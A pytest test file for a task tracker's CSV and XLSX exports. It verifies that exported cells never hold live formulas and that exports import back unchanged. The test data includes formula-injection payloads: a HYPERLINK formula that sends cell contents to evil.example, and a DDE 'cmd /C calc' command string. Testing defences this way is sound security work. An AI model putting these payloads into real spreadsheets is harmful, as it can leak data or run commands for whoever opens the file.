"""No live formula leaves in an export, and what the exports write imports back.

A task whose title and result are formulas, led by a unit whose name is one, reported
on by a person whose name is one: every file the tracker writes (tasks.csv, every
sheet of report.xlsx, the import template filled from a quarter, audit.csv) holds no
formula cell and, in CSV, no cell starting with a formula character.
"""
import csv
import io
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests.helpers import page_text
from tracker.exports import (
    FORMULA_STARTS, XlsxCells, csv_cell, csv_row, csv_text_in, is_risky, xlsx_workbook,
)
from tracker.models import Quarter, Task, TaskUnit, TaskUpdate
from tracker.reports.imports import read_cells

TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
RESULT = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULAS = [
    TITLE, RESULT, "+1+1", "-2+3", "=1+1", "@A1", "\t=1+1", "\r=1+1", "\n=1",
    "=cmd|' /C calc'!A0", "-", "=", "'=1+1", "''=x", "'", "'abc", "- Đã tổ chức 11/11",
]


# ---------------------------------------------------------------- the helper


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_csv_cells_round_trip_and_never_start_a_formula(text):
    written = csv_cell(text)
    assert not written.startswith(FORMULA_STARTS)
    assert csv_text_in(written) == text


@settings(max_examples=100, deadline=None)
@given(st.lists(st.one_of(st.text(), st.sampled_from(FORMULAS)), min_size=1,
                max_size=6))
def test_a_csv_row_reads_back_through_the_importer(cells):
    """Written with the csv module and read by the importer: the same text."""
    cells = [cell.replace("\x00", "") for cell in cells]
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerow(csv_row(cells))
    # A header row first: the importer picks the delimiter from the first line.
    content = ("Tiêu đề\r\n" + out.getvalue()).encode("utf-8-sig")
    rows = read_cells(content, "x.csv")
    assert list(rows[1]) == cells or (rows[1] == () and cells == [""])


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cell_examples(text):
    written = csv_cell(text)
    assert not written.startswith(FORMULA_STARTS)
    assert csv_text_in(written) == text
    if not text.startswith("'"):
        assert written in (text, "'" + text)


@pytest.mark.parametrize("value, expected", [
    (5, 5), (0, 0), (-3, -3), (2.5, 2.5), (None, ""), (True, "1"), (False, "0"),
    ("Hội Nông dân", "Hội Nông dân"), ("", ""), ("'abc", "'abc"), ("'", "'"),
])
def test_numbers_stay_numbers_and_plain_text_stays_as_it_is(value, expected):
    assert csv_cell(value) == expected


def _xlsx_file(values):
    buffer = io.BytesIO()
    with xlsx_workbook(buffer) as workbook:
        XlsxCells(workbook).write_row(workbook.add_worksheet("x"), 0, values)
    return buffer.getvalue()


def _xlsx_round_trip(values):
    return load_workbook(io.BytesIO(_xlsx_file(values))).active


@settings(max_examples=150, deadline=None)
@given(st.lists(st.one_of(st.text(), st.sampled_from(
    FORMULAS + ["#N/A", "#REF!", "a\r\nb", "_x000D_", "x_x0041_y", "\x01"])),
    min_size=1, max_size=5))
def test_xlsx_text_is_always_a_string_cell_and_reads_back(values):
    content = _xlsx_file(values)
    sheet = load_workbook(io.BytesIO(content)).active
    cells = {cell.column - 1: cell for cell in sheet[1]}
    for column, value in enumerate(values):
        if value == "":
            assert cells.get(column) is None or cells[column].value is None
            continue
        cell = cells[column]
        assert cell.data_type == "s", (value, cell.data_type)
        assert cell.quotePrefix is is_risky(value)
    # Control characters travel as Excel's "_xHHHH_" escapes, which the importer
    # reads back: every text, whitespace at the ends included, returns unchanged.
    rows = read_cells(content, "x.xlsx")
    read = [("" if cell is None else cell) for cell in (rows[0] if rows else ())]
    read += [""] * len(values)
    assert read[:len(values)] == values and not any(read[len(values):])


TRICKY_TEXTS = ["_x000D_", "a\r\nb", "x\x01y", "x_x0041_y", "x005F_", "_x005f_ ",
                " hai đầu ", "\ufffe", "=1+1"]


@pytest.mark.parametrize("shared", [True, False], ids=["shared", "in-line"])
def test_xlsx_texts_read_back_from_either_string_form(shared):
    """A workbook keeps its texts in the shared table (Excel, LibreOffice, our
    exports) or in each cell (other writers). openpyxl drops "x005F_" from shared
    strings, which made a typed "_x000D_" and a carriage return the same text: the
    importer reads both forms back to exactly what was written."""
    import xlsxwriter

    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, {"constant_memory": not shared}) as workbook:
        sheet = workbook.add_worksheet()
        for row, text in enumerate(TRICKY_TEXTS):
            sheet.write_string(row, 0, text)
    content = buffer.getvalue()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert ("xl/sharedStrings.xml" in archive.namelist()) is shared
    assert [row[0] for row in read_cells(content, "x.xlsx")] == TRICKY_TEXTS


def test_xlsx_numbers_and_dates_keep_their_type():
    import datetime as dt

    sheet = _xlsx_round_trip([5, 0.5, dt.date(2023, 3, 31), "=1+1"])
    assert [cell.data_type for cell in sheet[1]] == ["n", "n", "d", "s"]


def test_xlsx_dates_are_the_cells_write_datetime_makes():
    """A date is written as its serial number with the date format: the sheet's XML
    is the one XlsxWriter's own write_datetime gives, byte for byte."""
    import datetime as dt

    from tracker.exports import DATE_FORMAT

    values = [dt.date(2025, 5, 15), dt.date(1900, 3, 1), dt.date(1900, 2, 28),
              dt.datetime(2025, 5, 15, 13, 45, 12, 5000), dt.date(2025, 5, 15),
              dt.date(2099, 12, 31)]

    def sheet_xml(write):
        buffer = io.BytesIO()
        with xlsx_workbook(buffer) as workbook:
            write(workbook, workbook.add_worksheet("x"))
        with zipfile.ZipFile(buffer) as archive:
            return archive.read("xl/worksheets/sheet1.xml")

    def ours(workbook, sheet):
        XlsxCells(workbook).write_row(sheet, 0, values)

    def theirs(workbook, sheet):
        look = workbook.add_format({"num_format": DATE_FORMAT})
        for column, value in enumerate(values):
            sheet.write_datetime(0, column, value, look)

    assert sheet_xml(ours) == sheet_xml(theirs)
    assert b"<v>45792</v>" in sheet_xml(ours)  # 15/05/2025


# ---------------------------------------------------------------- every export


@pytest.fixture
def hostile(db, make_quarter, make_unit, make_task, login_as):
    """A quarter whose task, unit and reporter names are all formulas."""
    quarter = make_quarter(2023, 2, state="active")
    lead = make_unit(name="=cmd|' /C calc'!A0", short_name="+HND")
    other = make_unit(name="@Đoàn Thanh niên", short_name="-DTN")
    admin = login_as("admin")
    admin.full_name = "=1+1"
    db.session.commit()
    task = make_task(
        quarter=quarter, lead=lead, coordinating=[other], user=admin, kind="other",
        title=TITLE, result=RESULT, description="+1\tđầu dòng",
        source_document="-2+3", target_label="@x",
    )
    make_task(quarter=quarter, lead=other, kind="other", title="'=already quoted",
              result="'Kết quả", description="- Đã tổ chức 11/11 cuộc")
    return {"quarter": quarter, "task": task}


def _csv_rows(data):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _no_formula_start(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def _no_formula_cell(content):
    """Assert no sheet holds a formula, and risky text is a quoted string cell."""
    workbook = load_workbook(io.BytesIO(content))
    seen = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if is_risky(cell.value):
                    seen += 1
                    assert cell.data_type == "s" and cell.quotePrefix, cell.coordinate
    return workbook, seen


def test_tasks_csv(client, hostile):
    response = client.get("/quarters/2023-Q2/tasks.csv")
    assert response.status_code == 200
    rows = _csv_rows(response.data)
    _no_formula_start(rows)
    text = response.data.decode("utf-8-sig")
    assert "'" + TITLE.replace('"', '""') in text
    assert "'" + RESULT in text
    # Numbers the program writes stay bare numbers.
    assert rows[1][0] == str(hostile["task"].id)


def test_report_xlsx_every_sheet(client, hostile):
    response = client.get("/quarters/2023-Q2/report.xlsx")
    assert response.status_code == 200
    workbook, seen = _no_formula_cell(response.data)
    assert len(workbook.worksheets) >= 3
    values = {cell.value for sheet in workbook.worksheets
              for row in sheet.iter_rows() for cell in row}
    # Written as the text itself: a reader sees the title as typed.
    assert TITLE in values and RESULT in values and "=cmd|' /C calc'!A0" in values
    assert seen >= 5


def test_import_template_from_a_quarter(client, hostile):
    response = client.get("/quarters/import-template.xlsx?from=2023-Q2")
    assert response.status_code == 200
    workbook, seen = _no_formula_cell(response.data)
    plan = workbook.worksheets[0]
    assert TITLE in {cell.value for row in plan.iter_rows() for cell in row}
    assert seen >= 4


def test_audit_csv(client, hostile):
    client.post(f"/tasks/{hostile['task'].id}/status",
                data={"status": "in_progress", "progress": "10", "note": "=2+2"})
    response = client.get("/admin/audit.csv")
    assert response.status_code == 200
    rows = _csv_rows(response.data)
    _no_formula_start(rows)
    flat = [cell for row in rows for cell in row]
    # The note (the admin of no unit reports on behalf of the lead unit: the note
    # says so after it), and the person's name.
    assert any(cell.startswith("'=2+2 [") for cell in flat) and "'=1+1" in flat
    assert any(TITLE in cell for cell in flat)


def _empty_quarter(db, quarter):
    ids = db.select(Task.id).where(Task.quarter_id == quarter.id)
    # The petitions raised at them go with them (then their history).
    from tracker.models.petition import Petition, PetitionUpdate

    petitions = db.select(Petition.id).where(Petition.task_id.in_(ids))
    db.session.execute(db.delete(PetitionUpdate).where(
        PetitionUpdate.petition_id.in_(petitions)))
    db.session.execute(db.delete(Petition).where(Petition.task_id.in_(ids)))
    db.session.execute(db.delete(TaskUpdate).where(TaskUpdate.task_id.in_(ids)))
    db.session.execute(db.delete(TaskUnit).where(TaskUnit.task_id.in_(ids)))
    db.session.execute(db.delete(Task).where(Task.quarter_id == quarter.id))
    db.session.commit()


@pytest.mark.parametrize("url, filename", [
    ("/quarters/2023-Q2/tasks.csv", "nhiem-vu.csv"),
    ("/quarters/import-template.xlsx?from=2023-Q2", "ke-hoach.xlsx"),
])
def test_export_then_import_gives_back_the_same_text(client, db, hostile, url,
                                                     filename):
    def texts():
        return sorted(
            (task.title, task.result, task.description, task.source_document,
             task.target_label, task.lead_unit.name)
            for task in db.session.scalars(db.select(Task))
        )

    before = texts()
    exported = client.get(url).data
    _empty_quarter(db, hostile["quarter"])
    preview = client.post("/quarters/2023-Q2/import",
                          data={"file": (io.BytesIO(exported), filename)},
                          content_type="multipart/form-data")
    assert preview.status_code == 200, page_text(preview)
    token = page_text(preview).split('name="token" value="')[1].split('"')[0]
    assert client.post("/quarters/2023-Q2/import/confirm",
                       data={"token": token}).status_code == 302
    db.session.expire_all()
    assert texts() == before
    assert db.session.scalar(db.select(db.func.count(Quarter.id))) == 1
